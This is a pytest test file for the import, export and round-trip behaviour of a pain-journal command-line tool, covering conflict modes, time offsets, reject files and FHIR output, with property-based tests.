def test_a_new_time_for_a_stored_day_adds_a_reading_and_is_no_conflict(cli, cli_json, journal,
                                                                       tmp_path):
    ok(cli("import", str(write(tmp_path, "a.csv", STORED))))
    later = write(tmp_path, "b.csv", "date,time,pain,worst,sleep,note\n"
                  f"{d(1)},20:00,7,6,7.5,evening\n")  # the same worst; sleep fills a gap
    counts = summary(ok(cli("import", str(later))))
    assert (counts["Imported"], counts["Updated"], counts["Skipped (already there)"]) == (
        "1", "0", "0")
    entry = day_of(cli_json, d(1), "me")
    assert [r["time"] for r in entry["readings"]] == ["08:00", "20:00"]
    assert (entry["pain"], entry["worst"], entry["sleep"]) == (7, 6, 7.5)
    assert len(stored(journal)) == 1


@pytest.mark.parametrize("mode, code, times, pain, note", [
    ("fail", 2, ["08:00"], 4, "morning"),
    ("skip", 0, ["08:00"], 4, "morning"),
    ("update", 0, ["08:00"], 5, "morning, later"),
])
def test_a_row_at_a_stored_time_is_a_conflict(cli, cli_json, journal, tmp_path, mode, code,
                                              times, pain, note):
    ok(cli("import", str(write(tmp_path, "a.csv", STORED))))
    before = journal.read_bytes()
    again = write(tmp_path, "b.csv", f"date,time,pain,note\n{d(1)},08:00,5,\"morning, later\"\n")
    result = cli("import", str(again), "--on-conflict", mode)
    assert result.exit_code == code, result.output
    if mode == "fail":
        assert f"me {d(1)}, the reading at 08:00 (row 2)" in import_refused(result, journal,
                                                                            before)
    else:
        counts = summary(result)
        assert counts["Skipped (already there)" if mode == "skip" else "Updated"] == "1"
        assert counts["Imported"] == "0"
    entry = day_of(cli_json, d(1), "me")
    assert ([r["time"] for r in entry["readings"]], entry["pain"], entry["note"]) == (
        times, pain, note)
    if mode == "skip":
        assert journal.read_bytes() == before


def test_a_failed_import_names_the_first_five_conflicts_and_how_many_more():
    view = View(empty_data())
    rows = [(n + 2, {"date": d(1), "time": f"0{n}:00", "pain": 3}) for n in range(8)]
    assert transfer.import_rows(view, rows, default_patient="me", today=TODAY,
                                stamp=STAMP).written
    again = transfer.import_rows(view, rows, default_patient="me", today=TODAY, stamp=STAMP)
    assert not again.written and again.imported == 0
    assert again.conflicts == [f"me {d(1)}, the reading at 0{n}:00 (row {n + 2})"
                               for n in range(5)] + ["and 3 more"]


@pytest.mark.parametrize("mode, code, worst, times", [
    ("fail", 2, 6, ["08:00"]),
    ("skip", 0, 6, ["08:00", "20:00"]),      # the stored worst stays; the reading goes in
    ("update", 0, 8, ["08:00", "20:00"]),
])
def test_day_values_that_differ_from_the_stored_day_are_a_conflict(cli, cli_json, journal,
                                                                   tmp_path, mode, code, worst,
                                                                   times):
    ok(cli("import", str(write(tmp_path, "a.csv", STORED))))
    before = journal.read_bytes()
    later = write(tmp_path, "b.csv", f"date,time,pain,worst\n{d(1)},20:00,7,8\n")
    result = cli("import", str(later), "--on-conflict", mode)
    assert result.exit_code == code, result.output
    if mode == "fail":
        assert f"me {d(1)}, a different worst (row 2)" in import_refused(result, journal, before)
    else:
        assert summary(result)["Imported"] == "1"
    entry = day_of(cli_json, d(1), "me")
    assert ([r["time"] for r in entry["readings"]], entry["worst"]) == (times, worst)


def test_update_of_a_stored_reading_counts_unchanged_rows_and_keeps_the_others(cli, cli_json,
                                                                               journal,
                                                                               tmp_path):
    ok(cli("import", str(write(tmp_path, "r.csv", READINGS))))
    exported = ok(cli("export", "--format", "csv")).stdout
    changed = exported.replace(",6,7,2,,headache,", ",5,7,2,,headache,")
    assert changed != exported
    counts = summary(ok(cli("import", "-", "--format", "csv", "--on-conflict", "update",
                            input=changed)))
    assert (counts["Updated"], counts["Unchanged"], counts["Imported"]) == ("1", "3", "0")
    entry = day_of(cli_json, d(1))
    assert [r["pain"] for r in entry["readings"]] == [2, 3, 5]


def test_rows_without_logged_at_keep_it_unknown(cli, cli_json, journal, tmp_path, monkeypatch):
    from pumpjournal import dates

    monkeypatch.setattr(dates, "now_stamp", lambda: STAMP)
    rows = ("date,time,pain,logged_at\n"
            f"{d(1)},08:00,3,\n"
            f"{d(1)},09:00,4,2025-03-01T09:02:00+01:00\n")
    ok(cli("import", str(write(tmp_path, "l.csv", rows))))
    readings = day_of(cli_json, d(1), "me")["readings"]
    assert [(r["logged_at"], r["updated_at"]) for r in readings] == [
        (None, STAMP), ("2025-03-01T09:02:00+01:00", "2025-03-01T09:02:00+01:00")]


@pytest.mark.parametrize("cell, stored_as", [("+01:00", "+01:00"), ("-0530", "-05:30"),
                                             ("Z", "+00:00"), ("'+02:00", "+02:00")])
def test_a_utc_offset_is_read_in_its_usual_forms(cli, cli_json, journal, tmp_path, cell,
                                                 stored_as):
    ok(cli("import", str(write(tmp_path, "o.csv", f"date,time,utc_offset,pain\n"
                                                   f"{d(1)},08:00,{cell},3\n"))))
    assert day_of(cli_json, d(1), "me")["readings"][0]["utc_offset"] == stored_as


@pytest.mark.parametrize("time, offset, column, words", [
    ("25:00", "", "time", "HH:MM"),
    ("8h30", "", "time", "HH:MM"),
    ("08:00", "+1", "utc_offset", "+HH:MM"),
    ("08:00", "+24:00", "utc_offset", "+HH:MM"),
    ("", "+01:00", "utc_offset", "belongs to a reading's time"),
])
def test_a_bad_time_or_offset_is_a_row_error(cli, journal, tmp_path, time, offset, column,
                                             words):
    rows = f"date,time,utc_offset,pain\n{d(1)},{time},{offset},3\n"
    error = import_refused(cli("import", str(write(tmp_path, "b.csv", rows))), journal, None)
    assert f"row 2, column {column}" in error and words in error


def test_a_reading_time_in_json_must_be_text(cli, journal, tmp_path):
    rows = [{"date": d(1), "time": 8, "pain": 3}, {"date": d(2), "time": ["08:00"], "pain": 3}]
    error = import_refused(cli("import", str(write(tmp_path, "t.json", json.dumps(rows)))),
                           journal, None)
    assert "row 1, column time '8'" in error and "row 2, column time" in error


def test_a_rejects_file_keeps_the_time_column_and_imports_once_fixed(cli, cli_json, journal,
                                                                     tmp_path):
    rows = ("date,time,pain,worst\n"
            f"{d(1)},08:00,3,6\n"
            f"{d(1)},12:00,4,7\n"     # worst differs from row 2
            f"{d(1)},18:61,5,\n")     # not a time
    rejects = tmp_path / "fix.csv"
    result = cli("import", str(write(tmp_path, "r.csv", rows)), "--skip-invalid", "--rejects",
                 str(rejects))
    assert result.exit_code == 2 and summary(result)["Imported"] == "1"
    text = rejects.read_text(encoding="utf-8")
    assert text.splitlines()[0] == "date,time,pain,worst,_row,_error"
    assert [r["_row"] for r in csv.DictReader(io.StringIO(text))] == ["3", "4"]
    rejects.write_text(text.replace(",12:00,4,7,", ",12:00,4,6,").replace("18:61", "18:45"),
                       encoding="utf-8")
    assert summary(ok(cli("import", str(rejects))))["Imported"] == "2"
    assert [r["time"] for r in day_of(cli_json, d(1), "me")["readings"]] == [
        "08:00", "12:00", "18:45"]


OLD_EXPORT = (  # an export of pumpjournal before readings: no time column
    "patient,date,pain,worst,least,average,symptoms,worse,temperature,temperature_c,"
    "temperature_site,boluses,sleep,mood,note,questions,contacted,logged_at,updated_at\n"
    f"p1,{d(1)},5,7,3,5,fever;chills,,100.8 F,38.22,ear,2,6.5,6,Called,Why?,1,"
    "2025-03-01T20:00:00+01:00,2025-03-01T21:00:00+01:00\n"
    f"p1,{d(2)},4,,,,,,,,,,,,,,,2025-03-02T20:00:00+01:00,2025-03-02T20:00:00+01:00\n")


def test_an_export_from_before_readings_imports_as_untimed_readings(cli, cli_json, journal,
                                                                    tmp_path):
    ok(cli("import", str(write(tmp_path, "old.csv", OLD_EXPORT))))
    first = day_of(cli_json, d(1))
    (reading,) = first["readings"]
    assert (reading["time"], reading["utc_offset"], reading["pain"]) == (None, None, 5)
    assert reading["logged_at"] == "2025-03-01T20:00:00+01:00"
    assert (first["worst"], first["sleep"], first["questions"], first["contacted"]) == (
        7, 6.5, ["Why?"], True)
    rows = list(csv.DictReader(io.StringIO(ok(cli("export", "--format", "csv")).stdout)))
    assert [(r["date"], r["time"], r["pain"]) for r in rows] == [(d(1), "", "5"),
                                                                 (d(2), "", "4")]


def several_readings_view() -> View:
    """A journal whose days hold several readings (timed, with and without an offset, and
    untimed), day values changed after the readings, and awkward text."""
    view = View(empty_data())
    day1, day2 = date(2025, 3, 1), date(2025, 3, 2)
    view.add_reading("p1", day1, {"pain": 3, "worst": 7, "least": 2, "note": "=first"},
                     "2025-03-01T08:01:00+01:00", "08:00")
    view.add_reading("p1", day1, {"pain": 5, "symptoms": ["fever"], "temperature_c": 38.4,
                                  "temperature": "38.4"}, "2025-03-01T13:00:00+01:00", "12:30")
    view.add_reading("p1", day1, {"pain": 2, "note": "no time\nsecond line"},
                     "2025-03-01T22:00:00+01:00", "none")
    view.add_reading("p1", day1, {"sleep": 6.5, "questions": ["Is it the pump?"]},
                     "2025-03-01T23:00:00+01:00", "none")  # the day's own values, later
    view.add_reading("p2", day2, {"pain": 4, "contacted": True}, "2025-03-02T09:00:00-05:00",
                     "09:00")
    view.add_reading("p2", day2, {"pain": 6}, "2025-03-02T18:00:00-05:00", "17:45")
    offsets = {"08:00": "+01:00", "12:30": "+01:00", "09:00": None, "17:45": "-05:00"}
    for doc in view.documents("entries").values():  # as logged in those time zones
        for reading in doc["readings"]:
            if reading.get("time"):
                reading.pop("utc_offset", None)
                if offsets[reading["time"]]:
                    reading["utc_offset"] = offsets[reading["time"]]
    return view


@pytest.mark.parametrize("fmt", ["csv", "json", "jsonl"])
def test_several_readings_a_day_go_out_and_come_back_byte_for_byte(fmt):
    first_view = several_readings_view()
    first = export_text(first_view, fmt)
    assert first.count("p1") == 3 and first.count("p2") == 2
    second_view = View(empty_data())
    again = transfer.import_rows(second_view,
                                 transfer.read_rows(io.StringIO(first, newline=""), fmt),
                                 default_patient="me", today=TODAY, stamp=STAMP)
    assert not again.errors and again.imported == 5
    assert export_text(second_view, fmt) == first

    def days(view):  # a reading's updated_at comes back as its row's (see export_rows)
        return [{**e.to_json(), "readings": [{**r.to_json(), "updated_at": None}
                                             for r in e.readings]} for e in view.entries()]

    assert days(second_view) == days(first_view)


def test_export_rows_are_one_per_reading_in_time_order_with_the_day_values_on_each():
    rows = [json.loads(line) for line in export_text(several_readings_view(),
                                                     "jsonl").splitlines()]
    assert [list(row) for row in rows] == [list(CSV_COLUMNS)] * 5
    assert [(r["patient"], r["time"], r["pain"]) for r in rows] == [
        ("p1", None, 2), ("p1", "08:00", 3), ("p1", "12:30", 5), ("p2", "09:00", 4),
        ("p2", "17:45", 6)]
    assert {(r["worst"], r["least"], r["sleep"]) for r in rows[:3]} == {(7, 2, 6.5)}
    assert all(r["questions"] == ["Is it the pump?"] for r in rows[:3])
    # the day's values changed after its readings: that is each row's last change
    assert {r["updated_at"] for r in rows[:3]} == {"2025-03-01T23:00:00+01:00"}
    assert [r["utc_offset"] for r in rows[3:]] == [None, "-05:00"]
    cells = list(csv.DictReader(io.StringIO(export_text(several_readings_view(), "csv"))))
    assert cells[4]["utc_offset"] == "-05:00"  # a checked offset is written as it is
    assert cells[1]["note"] == "'=first"  # free text keeps the formula guard


def test_fhir_observations_carry_the_readings_time_and_offset(cli, journal, tmp_path):
    rows = ("date,time,utc_offset,pain,average,temperature,symptoms\n"
            f"{d(1)},08:30,+01:00,4,5,38.4,fever\n"
            f"{d(1)},21:00,,6,5,,\n"     # a time without an offset: the date only
            f"{d(1)},,,2,,,\n")          # no time
    ok(cli("import", str(write(tmp_path, "f.csv", rows))))
    bundle = fhir_bundle(cli)
    found = [(o["code"]["text"], o["effectiveDateTime"], o.get("valueInteger"))
             for o in resources(bundle, "Observation")]
    assert found == [
        ("average pain over the last 24 hours", d(1), 5),
        ("pain right now", d(1), 2),
        ("pain right now", f"{d(1)}T08:30:00+01:00", 4),
        ("body temperature", f"{d(1)}T08:30:00+01:00", None),
        (cat.BY_ID["fever"].label, f"{d(1)}T08:30:00+01:00", None),
        ("pain right now", d(1), 6)]
    urls = [e["fullUrl"] for e in bundle["entry"]]
    assert len(set(urls)) == len(urls)
    assert list(_empty_parts(bundle)) == []
    assert fhir_bundle(cli) == bundle  # the same journal, the same Bundle
    dated = re.compile(r"^\d{4}-\d{2}-\d{2}(T\d{2}:\d{2}:\d{2}[+-]\d{2}:\d{2})?$")
    assert all(dated.match(o["effectiveDateTime"]) for o in resources(bundle, "Observation"))


# Hypothesis: random rows through import_rows ----------------------------------------------


SYMPTOM_IDS = [s.id for s in cat.SYMPTOMS]
SCORE = st.one_of(st.integers(-3, 13), st.sampled_from(
    ["5", " 7 ", "11", "-1", "x", "5.5", "5.0", "", "ten", True, False, None, 4.0, 2.5,
     float("nan"), 10 ** 30, [], {}]))
TEMPERATURE = st.one_of(
    st.sampled_from(["38.2", "100.8F", "37,9 c", "101 °F", "hot", "200", "", None, 38, 38.5,
                     "29.9", "45.0", "113 F", "38..2", "-38", "1e2", [], "9" * 40]),
    st.floats(allow_nan=True, allow_infinity=True))
DAY = st.one_of(
    st.dates(min_value=date(1, 1, 1), max_value=date(9999, 12, 31)).map(date.isoformat),
    st.dates(min_value=date(2024, 12, 1), max_value=date(2025, 6, 5)).map(date.isoformat),
    st.sampled_from(["2025-02-30", "01/10/2025", "", None, "yesterday", 20250101, "2025-1-5",
                     " 2025-01-05 ", "2025-01-05T10:00"]))
SYMPTOMS = st.one_of(
    st.lists(st.sampled_from(SYMPTOM_IDS + ["feverr", "", "FEVER", "leg_numbness", " chills"]),
             max_size=4).map(";".join),
    st.lists(st.sampled_from(SYMPTOM_IDS + ["nope", 1]), max_size=3),
    st.sampled_from([None, 3, {"fever": 1}]))
PATIENT = st.sampled_from([None, "p1", "p2", "bad id!", "", "-x", 7])
ROW = st.fixed_dictionaries({
    "patient": PATIENT, "date": DAY, "pain": SCORE, "worst": SCORE, "least": SCORE,
    "average": SCORE, "temperature": TEMPERATURE, "symptoms": SYMPTOMS})


def run_import(rows, **options):
    view = View(empty_data())
    try:
        result = transfer.import_rows(view, list(enumerate(rows, start=2)),
                                      default_patient="me", today=TODAY, stamp=STAMP,
                                      **options)
    except InputError:
        result = None
    return view, result


@settings(suppress_health_check=[HealthCheck.too_slow])
@given(rows=st.lists(ROW, min_size=1, max_size=8))
def test_random_rows_all_go_in_or_none_and_only_input_errors_are_raised(rows):
    view, result = run_import(rows)  # anything but InputError fails the test here
    count = len(view.entries_table)
    if result is None or result.errors:
        assert count == 0 and not view.storage.changed
        assert result is None or not result.written
    else:
        assert count == len(rows) == result.imported and result.written
        assert result.rejected == 0


@settings(suppress_health_check=[HealthCheck.too_slow])
@given(rows=st.lists(ROW, min_size=1, max_size=8))
@example(rows=[{"date": "2025-01-01", "pain": True}, {"date": "2025-01-02", "pain": 1}])
@example(rows=[{"date": "2025-01-01", "pain": 1}, {"date": "2025-01-02", "pain": True}])
def test_random_rows_are_judged_one_by_one_whatever_their_neighbours(rows):
    """With --skip-invalid, a row goes in exactly when it would go in alone (apart from the
    same person and day twice in one file); its neighbours' values change nothing."""
    view, result = run_import(rows, skip_invalid=True)
    if result is None:
        return
    errors = {e.row: e.message for e in result.errors}
    assert result.imported + result.rejected == len(rows)
    assert len(view.entries_table) == result.imported
    for number, row in enumerate(rows, start=2):
        _, alone = run_import([row], skip_invalid=True)
        if number in errors and "same person and date" in errors[number]:
            continue
        assert (number in errors) == bool(alone.errors), (number, row, errors.get(number),
                                                          alone.errors)


# Hypothesis: round trip of random valid entries -----------------------------------------


NOTE_TEXT = st.text(st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\x85")
                    | st.just("\n"), max_size=25)
NOTE = st.one_of(st.none(), st.tuples(st.sampled_from(["", "'", "=", "'=", "-", "+", "@", "'-",
                                                       "''+", " "]), NOTE_TEXT)
                 .map("".join))
QUESTION = st.text(st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\x85")
                   | st.just("\n"), min_size=1, max_size=20)


@st.composite
def valid_entries(draw):
    keys = draw(st.lists(st.tuples(st.sampled_from(["me", "p001", "p_2", "A-3"]),
                                   st.integers(0, 400)),
                         min_size=1, max_size=6, unique=True))
    rows = []
    for patient, offset in keys:
        low, high = sorted(draw(st.lists(st.integers(0, 10), min_size=2, max_size=2)))
        row = {"patient": patient, "date": (TODAY - timedelta(days=offset)).isoformat(),
               "pain": draw(st.integers(0, 10))}
        if draw(st.booleans()):
            row.update(least=low, worst=high, average=draw(st.integers(low, high)))
        row["symptoms"] = draw(st.lists(st.sampled_from(SYMPTOM_IDS), max_size=3, unique=True))
        row["temperature"] = draw(st.one_of(st.none(), st.sampled_from(
            ["38.2", "100.8 F", "37,9 c", "36.55", "101 °F", "37"])))
        row["temperature_site"] = draw(st.one_of(st.none(), st.sampled_from(
            ["mouth", "ear", "not-sure"])))
        row["boluses"] = draw(st.one_of(st.none(), st.integers(0, 100)))
        row["sleep"] = draw(st.one_of(st.none(), st.sampled_from([0, 6.5, 7, 23.75, "8,5"])))
        row["mood"] = draw(st.one_of(st.none(), st.integers(0, 10)))
        row["note"] = draw(NOTE)
        row["questions"] = draw(st.lists(QUESTION, max_size=2))
        row["contacted"] = draw(st.sampled_from([None, True, False]))
        rows.append(row)
    return rows


def export_text(view, fmt: str) -> str:
    out = io.StringIO(newline="")
    transfer.export(view, out, fmt)
    return out.getvalue()


def logged_view(rows) -> View:
    """A journal holding ``rows`` as `log` stores them (validated the same way); a row with
    an ``at`` is a reading at that time (else the day's reading without a time)."""
    view = View(empty_data())
    for row in rows:
        values = model.validate_fields({k: v for k, v in row.items()
                                        if k not in ("patient", "date", "contacted", "at",
                                                     "stamp")})
        if row["contacted"] is not None:
            values["contacted"] = row["contacted"]
        view.add_reading(row["patient"], date.fromisoformat(row["date"]), values,
                         row.get("stamp", STAMP), row.get("at"))
    return view


@st.composite
def several_readings(draw):
    """Valid days (``valid_entries``) with up to three more readings each, at other times
    (or the day's one without a time), some without pain now, logged later."""
    rows = draw(valid_entries())
    more = []
    for day in rows:
        first = draw(st.sampled_from([None, "none", "07:05"]))
        day["at"] = first
        times = draw(st.lists(st.sampled_from(["none", "00:00", "09:30", "12:00", "23:59"]),
                              max_size=3, unique=True))
        for n, at in enumerate(t for t in times if t != (first or "none")):
            more.append({"patient": day["patient"], "date": day["date"], "at": at,
                         "stamp": f"2025-06-01T1{n}:00:00+02:00",
                         "pain": draw(st.one_of(st.none(), st.integers(0, 10))),
                         "symptoms": draw(st.lists(st.sampled_from(SYMPTOM_IDS), max_size=2,
                                                   unique=True)),
                         "temperature": draw(st.one_of(st.none(), st.just("100.8 F"))),
                         "note": draw(NOTE), "contacted": draw(st.sampled_from([None, False]))})
    return rows + more


def round_trip(rows, fmt: str):
    first_view = logged_view(rows)
    first = export_text(first_view, fmt)
    second_view = View(empty_data())
    again = transfer.import_rows(second_view, transfer.read_rows(io.StringIO(first, newline=""),
                                                                 fmt),
                                 default_patient="me", today=TODAY, stamp="2000-01-01T00:00:00")
    assert not again.errors, again.errors
    return first_view, second_view, first


def one_entry(**values) -> list[dict]:
    row = {"patient": "me", "date": "2025-01-05", "pain": 3, "symptoms": [], "temperature": None,
           "temperature_site": None, "boluses": None, "sleep": None, "mood": None, "note": None,
           "questions": [], "contacted": None}
    return [{**row, **values}]


@given(rows=valid_entries())
@example(rows=one_entry(note="'=not a formula"))
def test_round_trip_jsonl_gives_the_same_bytes(rows):
    first_view, second_view, first = round_trip(rows, "jsonl")
    assert export_text(second_view, "jsonl") == first


@given(rows=valid_entries())
@example(rows=one_entry(note="'-- felt better"))
@example(rows=one_entry(questions=["Is this normal?\nIt began on Monday."]))
def test_round_trip_csv_gives_the_same_bytes_and_the_same_entries(rows):
    first_view, second_view, first = round_trip(rows, "csv")
    assert export_text(second_view, "csv") == first
    assert export_text(second_view, "jsonl") == export_text(first_view, "jsonl")


@settings(suppress_health_check=[HealthCheck.too_slow])
@given(rows=several_readings(), fmt=st.sampled_from(["csv", "json", "jsonl"]))
def test_round_trip_of_days_with_several_readings_gives_the_same_bytes(rows, fmt):
    first_view, second_view, first = round_trip(rows, fmt)
    assert export_text(second_view, fmt) == first
    assert export_text(second_view, "jsonl") == export_text(first_view, "jsonl")
    assert [len(e.readings) for e in second_view.entries()] == [
        len(e.readings) for e in first_view.entries()]


# The format from --format, else the file's name: one rule per direction ----------------------

@pytest.mark.parametrize("name, given, expected", [
    ("diary.csv", None, "csv"), ("DIARY.CSV", None, "csv"), ("rows.jsonl", None, "jsonl"),
    ("rows.ndjson", None, "jsonl"), ("a.b/rows.json", None, "json"), ("rows.txt", "csv", "csv"),
    ("-", "JSONL", "jsonl"), ("rows.csv", ".json", "json"),
])
def test_the_import_format_comes_from_format_else_the_name(name, given, expected):
    from pumpjournal import formats, transfer

    assert formats.to_read(name, given, transfer.check_format_in,
                           transfer.FORMATS_IN) == expected


@pytest.mark.parametrize("name, given", [("-", None), ("rows", None), ("rows.xlsx", None),
                                         ("a.csv/rows", None), ("rows.csv", "xlsx")])
def test_an_import_format_that_cannot_be_told_is_refused(name, given):
    from pumpjournal import formats, transfer

    with pytest.raises(InputError, match="format"):
        formats.to_read(name, given, transfer.check_format_in, transfer.FORMATS_IN)


@pytest.mark.parametrize("args, first", [
    (["--output", "out.jsonl"], "{"), (["--output", "out.ndjson"], "{"),
    (["--output", "out.CSV"], "patient"), (["--output", "out.fhir"], "{"),
    (["--output", "out.data"], "patient"), (["--output", "out.csv", "--format", "jsonl"], "{"),
])
def test_export_takes_the_format_from_the_file_name_else_csv(cli, tmp_path, args, first):
    assert cli("log", "--pain", "3").exit_code == 0
    target = tmp_path / args[1]
    args = [target if a == args[1] else a for a in args]
    result = cli("export", *map(str, args))
    assert result.exit_code == 0, result.output
    assert target.read_text().startswith(first)


@pytest.mark.parametrize("name, fmt", [("visit.html", "html"), ("visit.HTM", "html"),
                                       ("visit.md", "md"), ("visit.markdown", "md"),
                                       ("visit.txt", "txt"), ("visit.report", "pdf"),
                                       ("visit", "pdf")])
def test_report_takes_the_format_from_the_file_name_else_pdf(cli, tmp_path, name, fmt):
    assert cli("log", "--pain", "3").exit_code == 0
    target = tmp_path / name
    assert cli("report", "--output", str(target)).exit_code == 0
    head = target.read_bytes()[:20]
    assert head.startswith(b"%PDF") == (fmt == "pdf")
    assert (b"<!" in head or b"<html" in head.lower()) == (fmt == "html")


def test_library_rules_that_the_command_line_only_calls(tmp_path):
    """Export of a person the journal lacks, an empty question, an edit that changes nothing
    and the journal's own files are domain rules: a notebook meets them as the CLI does."""
    import io

    from pumpjournal import InputError, Journal, export
    from pumpjournal import model

    journal = Journal(tmp_path / "study.json")
    with journal.transaction() as tx:
        tx.log("p001", date.today(), {"pain": 2}, "2026-01-01T00:00:00+00:00")
    buffer = io.StringIO()
    with pytest.raises(InputError, match="has no person 'p002'; it holds: p001"):
        export(journal.read(), buffer, "csv", "p002")
    assert buffer.getvalue() == ""
    with pytest.raises(InputError, match="the question is empty"):
        model.parse_question("   ")
    with pytest.raises(InputError, match="nothing to change"):
        with journal.transaction() as tx:
            tx.edit("p001", date.today(), {}, "2026-01-02T00:00:00+00:00")
    with pytest.raises(InputError, match="backups folder"):
        journal.own_files(journal.backup_folder / "report.pdf")
    assert {path for path, _ in journal.own_files()} >= {journal.path, journal.lock_path}


def test_export_takes_its_bounds_as_dates_or_text(tmp_path):
    """As Journal.entries does: since and until are dates, datetimes (their day) or
    YYYY-MM-DD text; anything else is an InputError and nothing is written."""
    from datetime import datetime

    journal = Journal(tmp_path / "study.json")
    with journal.transaction() as tx:
        transfer.import_rows(tx, [(n, {"patient": "p1", "date": d(n), "pain": str(n)})
                                  for n in (1, 2, 3)], default_patient=None, stamp=STAMP)
    for since, until in ((d(2), d(2)), (date(2025, 3, 2), datetime(2025, 3, 2, 23, 0))):
        out = io.StringIO()
        assert transfer.export(journal.read(), out, "jsonl", since=since, until=until) == 1
        assert json.loads(out.getvalue())["date"] == d(2)
    out = io.StringIO()
    with pytest.raises(InputError, match="since '03/02/2025' is not a date"):
        transfer.export(journal.read(), out, "csv", since="03/02/2025")
    assert out.getvalue() == ""


# Every problem of a row, long cells, the reject file's _row ------------------------------


def test_every_bad_cell_of_a_row_is_reported(cli, cli_json, journal, tmp_path):
    source = write(tmp_path, "r.csv", "patient,date,pain,sleep,mood,symptoms\n"
                   f"p1,{d(1)},11,25,12,fever;nope\np1,{d(2)},3,7,5,\n")
    result = cli("import", str(source))
    error = import_refused(result, journal, None)
    for words in ("row 2, column pain '11'", "row 2, column sleep '25'",
                  "row 2, column mood '12'", "row 2, column symptoms 'fever;nope'"):
        assert words in error, error
    assert "1 of 2 rows have problems" in error and summary(result)["Rejected"] == "1"
    report = json.loads(cli("import", str(source), "--json").stdout)
    assert report["rejected"] == 1
    assert [(e["row"], e["column"]) for e in report["errors"]] == [
        (2, "pain"), (2, "sleep"), (2, "mood"), (2, "symptoms")]


def test_a_row_without_its_date_still_names_its_other_bad_cells(cli, journal, tmp_path):
    source = write(tmp_path, "r.csv", f"date,pain,utc_offset\n,x,\n{d(1)},3,+01:00\n")
    error = import_refused(cli("import", str(source)), journal, None)
    assert "row 2, column pain 'x'" in error and "row 2, column date: a date is required" in error
    assert "row 3, column utc_offset '+01:00': a UTC offset belongs to a reading's time" in error


def test_the_reject_file_carries_the_row_number_and_every_problem(cli, journal, tmp_path):
    source = write(tmp_path, "bad.csv", BAD_ROWS.replace(f"{d(2)},11,,,,", f"{d(2)},11,,,,hot"))
    rejects = tmp_path / "fix-me.csv"
    result = cli("import", str(source), "--skip-invalid", "--rejects", str(rejects))
    assert result.exit_code == 2
    rows = list(csv.DictReader(rejects.open(encoding="utf-8", newline="")))
    assert list(rows[0])[-2:] == ["_row", "_error"]
    # _row is the number the error list shows for the same row
    listed = sorted({int(n) for n in re.findall(r"row (\d+),", result.stderr)})
    assert [int(r["_row"]) for r in rows] == listed == [3, 5, 6, 7, 8]
    first = rows[0]["_error"].split(" | ")
    assert first[0].startswith("column pain: pain now must be") and PAIN_ACCEPTED in first[0]
    assert first[1].startswith("column temperature: temperature 'hot' is not understood")
    assert rows[4]["_error"].startswith("column pain: pain now is required")


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_a_reject_file_imports_again_ignoring_row_and_error(cli, journal, tmp_path, fmt):
    if fmt == "csv":
        source = write(tmp_path, "r.csv", f"date,pain\n{d(1)},3\n{d(2)},11\n")
    else:
        source = write(tmp_path, "r.jsonl", json.dumps({"date": d(1), "pain": 3}) + "\n"
                       + json.dumps({"date": d(2), "pain": 11}) + "\n")
    rejects = tmp_path / f"fix.{fmt}"
    cli("import", str(source), "--skip-invalid", "--rejects", str(rejects))
    text = rejects.read_text(encoding="utf-8")
    assert "_row" in text and "_error" in text
    still = cli("import", str(rejects))  # its own row numbers: the header is row 1 in CSV
    first = "row 2" if fmt == "csv" else "row 1"
    assert f"{first}, column pain '11'" in still.stderr
    assert "maps to no field" not in still.stderr
    rejects.write_text(text.replace("11", "10"), encoding="utf-8")
    report = json.loads(ok(cli("import", str(rejects), "--json")).stdout)
    assert report["imported"] == 1 and report["ignored_columns"] == []
    assert [(e["date"], e["pain"]) for e in stored(journal)] == [(d(1), 3), (d(2), 10)]


LONG_CELLS = {  # column: (cell, what the row error says)
    "note": ("n" * 140_000, "note is 140000 characters long; the limit is 5000"),
    "questions": ("q\n" * 6000, "questions is 11999 characters long; the limit is 10000"),
    "symptoms": ("fever;" * 400, "symptoms is 2400 characters long; the limit is 1000"),
    "boluses": ("1" * 5000, "boluses is 5000 characters long; the limit is 1000"),
    "temperature": ("3" * 200_000, "temperature is 200000 characters long; the limit is 1000"),
}


@pytest.mark.parametrize("column", list(LONG_CELLS))
def test_a_huge_cell_is_a_row_error_naming_its_row(cli, journal, tmp_path, column):
    """Far past csv's own field limit (128 KiB): the row is rejected, the others import."""
    cell, words = LONG_CELLS[column]
    lines = [f"p{n},{d(n)},3," for n in range(1, 7)]
    lines[3] += '"' + cell + '"'
    source = write(tmp_path, "long.csv", f"patient,date,pain,{column}\n" + "\n".join(lines)
                   + "\n")
    result = cli("import", str(source), "--skip-invalid", "--rejects", str(tmp_path / "r.csv"))
    assert result.exit_code == 2, result.stderr
    assert f"row 5, column {column}" in result.stderr and words in result.stderr
    assert max(len(line) for line in result.stderr.splitlines()) < 400
    assert summary(result)["Imported"] == "5" and summary(result)["Rejected"] == "1"
    assert len(stored(journal)) == 5
    (reject,) = csv.DictReader((tmp_path / "r.csv").open(encoding="utf-8", newline=""))
    assert reject[column] == cell and reject["_row"] == "5"


def test_a_note_just_over_its_limit_gets_the_logs_message(cli, journal, tmp_path):
    source = write(tmp_path, "n.csv", f"date,pain,note\n{d(1)},3,{'n' * 5001}\n")
    error = import_refused(cli("import", str(source)), journal, None)
    assert "row 2, column note: note is 5001 characters long; the limit is 5000" in error


# Trailing empty cells, two date formats -------------------------------------------------


def test_trailing_empty_cells_are_dropped_with_ignore_extra(cli, journal, tmp_path):
    source = write(tmp_path, "t.csv", f"patient,date,pain,note\np1,{d(1)},3,ok,\n"
                   f"p1,{d(2)},4,fine, , \np1,{d(3)},5,x,y\n")
    error = import_refused(cli("import", str(source)), journal, None)
    assert "row 2: more cells than the header has columns (the extra cells are empty; " \
           "--ignore-extra drops them)" in error
    result = cli("import", str(source), "--ignore-extra")
    assert "row 4: more cells than the header has columns" in result.stderr
    assert "row 2" not in result.stderr and "row 3" not in result.stderr
    result = cli("import", str(source), "--ignore-extra", "--skip-invalid", "--rejects",
                 str(tmp_path / "r.csv"))
    assert [(e["date"], e["note"]) for e in stored(journal)] == [(d(1), "ok"), (d(2), "fine")]


def test_several_date_formats_are_each_tried_and_an_ambiguous_date_is_refused(cli, journal,
                                                                             tmp_path):
    source = write(tmp_path, "d.csv", "date,pain\n03/15/2025,3\n16.03.2025,4\n")
    ok(cli("import", str(source), "--date-format", "%m/%d/%Y", "--date-format", "%d.%m.%Y"))
